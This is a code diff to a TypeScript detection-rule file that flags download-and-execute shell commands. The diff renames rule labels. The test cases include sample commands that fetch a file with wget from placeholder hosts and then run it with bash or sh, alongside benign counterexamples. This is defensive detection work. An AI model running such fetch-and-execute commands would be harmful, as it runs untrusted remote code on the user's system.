@@ -29,7 +29,7 @@ import { byReleaseHost, digestChecked } from './rc-03-phrases.ts';
 import type { Row } from '../../engine/rule.ts';
 
 export const downloadingPrograms: readonly Row[] = [
-  row('download to a file and interpret it', {
+  row('download to a file and run it with an interpreter', {
     within: 'block',
     match: pattern(
       edge,
@@ -60,7 +60,7 @@ export const downloadingPrograms: readonly Row[] = [
     catches: [fenced('sh', 'wget -q -O /tmp/agent https://cdn.invalid/get && bash /tmp/agent')],
     spares: [fenced('sh', 'curl -s -o /tmp/x.json https://api.acme.example/x', 'jq . /tmp/x.json')],
   }),
-  row('download to any name and interpret that name', {
+  row('download to any file name and run that file', {
     within: 'block',
     match: pattern(
       word(oneOf('curl', 'wget')),
@@ -83,7 +83,7 @@ export const downloadingPrograms: readonly Row[] = [
     catches: [inFile('scripts/a.sh', 'wget -q https://files.invalid/part7 -O .part7', 'sh .part7')],
     spares: [inFile('scripts/a.sh', 'wget -q https://data.acme.example/rows -O rows', 'sort rows')],
   }),
-  row('the same from a program', {
+  row('download and run, in a program', {
     in: ['script', 'fence'],
     within: 'block',
     match: pattern(
